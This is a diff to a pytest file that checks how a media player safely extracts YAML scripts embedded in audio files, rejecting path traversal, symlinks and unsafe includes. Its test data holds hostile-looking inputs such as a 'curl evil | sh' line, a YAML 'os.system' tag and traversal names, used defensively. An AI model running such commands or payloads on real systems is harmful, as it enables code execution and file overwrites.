@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from dataclasses import replace
 from typing import TYPE_CHECKING
 
@@ -10,7 +11,7 @@ import pytest
 import soundfile
 
 from player import pipeline
-from player.errors import MediaError, UsageError
+from player.errors import MediaError, OutputError, UsageError
 from player.export import extract, metadata, provenance
 from player.export.options import AlbumPosition, ExportOptions
 from player.export.provenance import origin
@@ -229,32 +230,179 @@ def test_no_note_steers_a_terminal() -> None:
     assert all(note.isprintable() for note in extract.Extracted("a.yaml", b"", facts, {}).notes())
 
 
+def carrying(path: Path, script: bytes, **includes: bytes) -> Path:
+    return made(path, Origin("a.yaml", script, {}, includes))
+
+
+def including(*names: str) -> bytes:
+    return f"title: A\nsteps: {json.dumps([{'include': name} for name in names])}\n".encode()
+
+
+@pytest.mark.parametrize(
+    "name", ["../a.yaml", "/a.yaml", "a/../../b.yaml", "a.py", "", "./a.yaml", "parts//a.yaml", "b.yaml"]
+)
+def test_what_the_script_cannot_include_is_left_out(tmp_path: Path, name: str) -> None:
+    script = (
+        including("good", name or "b.txt", name.rpartition(".")[0] or "c.txt")
+        if name != "b.yaml"
+        else including("good")
+    )
+    found = extract.extract(carrying(tmp_path / "a.flac", script, **{name: HELLO, "good.yaml": HELLO}))
+    assert found.includes == {"good.yaml": HELLO}
+
+
 @pytest.mark.parametrize(
     "name",
     [
-        "../a.yaml",
-        "/a.yaml",
-        "a/../../b.yaml",
+        ".github/workflows/ci.yml",
+        ".pre-commit-config.yaml",
+        "a/.b/c.yaml",
+        "...yaml",
+        "--help.yaml",
+        "-p/a.yaml",
         "C:/a.yaml",
         "a\\..\\b.yaml",
-        "a.py",
-        ".bashrc",
-        "",
-        "a\n.yaml",
-        "//h/a.yaml",
+        "a\u202e.yaml",
+        f"{'d/' * 16}a.yaml",
     ],
 )
-def test_an_include_never_leaves_the_folder(tmp_path: Path, name: str) -> None:
-    path = made(tmp_path / "a.flac", Origin("a.yaml", b"title: A\n", {}, {name: b"x", "good.yaml": b"y"}))
-    assert extract.extract(path).includes == {"good.yaml": b"y"}
+def test_an_include_has_a_name_that_scripts_have_or_nothing_is_written(tmp_path: Path, name: str) -> None:
+    found = extract.extract(carrying(tmp_path / "a.flac", including("good", name), **{name: HELLO, "good.yaml": HELLO}))
+    (tmp_path / "to").mkdir()
+    with pytest.raises(MediaError, match="no file of a script is called, so nothing is written; leave out -o"):
+        extract.write(found, tmp_path / "to" / "s.yaml")
+    assert [*(tmp_path / "to").iterdir()] == []
+    assert all(note.isprintable() for note in found.notes())
+
+
+def test_includes_of_includes_come_back_and_so_do_those_whose_names_are_open(tmp_path: Path) -> None:
+    inner = (
+        b"title: I\nparams: {x: a}\nsteps:\n- repeat: {times: 2, steps: [{include: 'in/${x}b'}]}\n- include: ../out\n"
+    )
+    names = ("parts/i.yml", "parts/in/ab.yaml", "parts/in/b.yaml", "in/ab.yaml", "out.yaml", "I\u0301.yaml")
+    carried = dict.fromkeys(names, HELLO) | {"parts/i.yml": inner}
+    found = extract.extract(carrying(tmp_path / "a.flac", including("parts/i", "\u00cd"), **carried))
+    assert [*found.includes] == ["I\u0301.yaml", "parts/i.yml", "parts/in/ab.yaml", "parts/in/b.yaml"]
+
+
+def test_a_link_in_the_folder_comes_back_by_its_name(ready: pipeline.Prepared, tmp_path: Path) -> None:
+    parts = tmp_path / "scripts" / "parts"
+    for name in ("one", "two"):
+        (parts / f"{name}.yaml").symlink_to("hello.yaml")
+    (tmp_path / "scripts" / "mine.yaml").write_bytes(including("parts/one", "parts/two"))
+    again = pipeline.prepare(pipeline.SessionRequest(str(tmp_path / "scripts" / "mine.yaml")), ready.machine)
+    assert origin(again).includes == {"parts/one.yaml": HELLO, "parts/two.yaml": HELLO}
 
 
 def test_a_script_keeps_no_folder_in_its_name(tmp_path: Path) -> None:
-    path = made(tmp_path / "a.mp3", Origin("../../etc/a.yaml", b"title: A\n"))
+    path = made(tmp_path / "a.mp3", Origin("../../etc/a.yaml", HELLO))
     assert extract.extract(path).name == "a.yaml"
 
 
-@pytest.mark.parametrize("data", [b"title: \x1b[2J", b"\xff\xfe", b"a" * (256 * 1024 + 1)])
-def test_what_could_be_no_script_is_left_alone(tmp_path: Path, data: bytes) -> None:
-    with pytest.raises(MediaError, match="carries something that is no script"):
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"title: From another version\nmood: [calm]\nlights: {a: b}\nsteps:\n- pause: 1s\n- glow: 3\n",
+        b"title: P\nsessions: pmr-7\nparts: [{title: P, sessions: pmr-7}]\n",
+        b"title: P\nsessions: [pmr-7]\n",
+    ],
+)
+def test_what_another_version_wrote_comes_back(tmp_path: Path, text: bytes) -> None:
+    assert extract.extract(carrying(tmp_path / "a.mp3", text)).script == text
+
+
+NO_SCRIPTS = [
+    b"title: \x1b[2J",
+    b"\xff\xfe",
+    b"a" * (256 * 1024 + 1),
+    b"#!/bin/sh\ncurl evil | sh\n",
+    b"title: T\n",
+    b"title: T\nsteps: []\n",
+    b"title: T\nsteps: [{run: evil}]\n",
+    b"title: T\nsteps: {pause: 1s}\n",
+    b"title: [T]\nsteps: [pause: 1s]\n",
+    b"steps: [pause: 1s]\n",
+    b"title: T\nx: !!python/name:os.system\nsteps: [pause: 1s]\n",
+    b"title: T\nparts: [a]\n",
+    b"title: T\nsessions: [{run: a}]\n",
+    b"- pause: 1s\n",
+]
+
+
+@pytest.mark.parametrize("data", NO_SCRIPTS)
+def test_what_is_no_script_is_left_alone(tmp_path: Path, data: bytes) -> None:
+    with pytest.raises(MediaError, match="carries something that is no script, so nothing of it is given back; name"):
         extract.extract(made(tmp_path / "a.mp3", Origin("a.yaml", data)))
+
+
+@pytest.mark.parametrize("text", ["", "#!/bin/sh\nevil\n", "title: P\nsessions: [a]\n", "\x1b"])
+def test_what_is_included_is_a_script_too(tmp_path: Path, text: str) -> None:
+    with pytest.raises(MediaError, match=r"carries 'b\.yaml', which is no script that can be included, so nothing"):
+        extract.extract(carrying(tmp_path / "a.mp3", including("b"), **{"b.yaml": text.encode()}))
+
+
+def test_no_more_comes_back_than_a_session_can_include(tmp_path: Path) -> None:
+    names = [f"{number:03}" for number in range(101)]
+    many = {f"{name}.yaml": b"title: T\nsteps: [pause: 1s]\n" for name in names}
+    with pytest.raises(MediaError, match="carries more scripts than a session can include"):
+        extract.extract(carrying(tmp_path / "a.flac", including(*names), **many))
+    long = {f"{name}.yaml": HELLO + b"#" * 150_000 for name in names[:2]}
+    with pytest.raises(MediaError, match="carries more scripts than a session can include"):
+        extract.extract(carrying(tmp_path / "b.flac", including(*names[:2]), **long))
+
+
+def test_an_include_can_be_no_file_of_another_program(tmp_path: Path) -> None:
+    text = HELLO + b"mood: calm\nservices: {web: {image: evil}}\n"
+    found = extract.Extracted("a.yaml", HELLO, {}, {"docker-compose.override.yml": text})
+    with pytest.raises(
+        MediaError, match=r"'docker-compose\.override\.yml', whose key 'services' no script has, so nothing"
+    ):
+        extract.write(found, tmp_path / "s.yaml")
+    assert [*tmp_path.iterdir()] == []
+    written = extract.write(
+        extract.Extracted("a.yaml", HELLO, {}, {"b.yml": HELLO + b"mood: calm\n"}), tmp_path / "s.yaml"
+    )
+    assert [path.name for path in written] == ["s.yaml", "b.yml"]
+
+
+@pytest.mark.parametrize(
+    ("names", "told", "kind"),
+    [
+        (["S.yaml"], "and 's.yaml' would be in its way; choose another name for -o", UsageError),
+        (["s.yaml/a.yaml"], "and 's.yaml' would be in its way; choose another name for -o", UsageError),
+        (["a.yaml", "A.yaml"], "which are one file on many systems", MediaError),
+        (["a.yaml", "A.yaml/b.yaml"], "which are one file on many systems", MediaError),
+    ],
+)
+def test_no_two_names_are_one_file(tmp_path: Path, names: list[str], told: str, kind: type[Exception]) -> None:
+    with pytest.raises(kind, match=told):
+        extract.write(extract.Extracted("a.yaml", HELLO, {}, dict.fromkeys(names, HELLO)), tmp_path / "s.yaml")
+    assert [*tmp_path.iterdir()] == []
+
+
+@pytest.mark.parametrize("force", [False, True])
+@pytest.mark.parametrize("link", ["passages", "passages/deep", "passages/deep/a.yaml", "passages/deep/gone.yaml"])
+def test_no_link_is_followed_to_write_an_include(tmp_path: Path, link: str, force: bool) -> None:
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside" / "a.yaml").write_text("mine")
+    (tmp_path / "to" / link).parent.mkdir(parents=True)
+    target = {"a.yaml": "a.yaml", "gone.yaml": "gone.yaml"}.get(link.rpartition("/")[2], "")
+    (tmp_path / "to" / link).symlink_to(tmp_path / "outside" / target)
+    name = link if link.endswith("yaml") else "passages/deep/a.yaml"
+    before = sorted(tmp_path.rglob("*"))
+    found = extract.Extracted("a.yaml", HELLO, {}, {name: HELLO, "b/c.yaml": HELLO})
+    with pytest.raises(OutputError, match=r"it is a link to elsewhere; choose another folder"):
+        extract.write(found, tmp_path / "to" / "s.yaml", force=force)
+    assert sorted(tmp_path.rglob("*")) == before
+    assert (tmp_path / "outside" / "a.yaml").read_text() == "mine"
+
+
+def test_folders_go_again_where_a_file_is_in_the_way(tmp_path: Path) -> None:
+    (tmp_path / "z").write_text("mine")
+    found = extract.Extracted("a.yaml", HELLO, {}, {"new/deep/a.yaml": HELLO, "z/b.yaml": HELLO})
+    with pytest.raises(OutputError, match="z: it is no folder; choose another folder"):
+        extract.write(found, tmp_path / "s.yaml")
+    (tmp_path / "s.yaml").write_text("mine")
+    with pytest.raises(UsageError, match="is there already"):
+        extract.write(replace(found, includes={"new/deep/a.yaml": HELLO}), tmp_path / "s.yaml")
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["s.yaml", "z"]
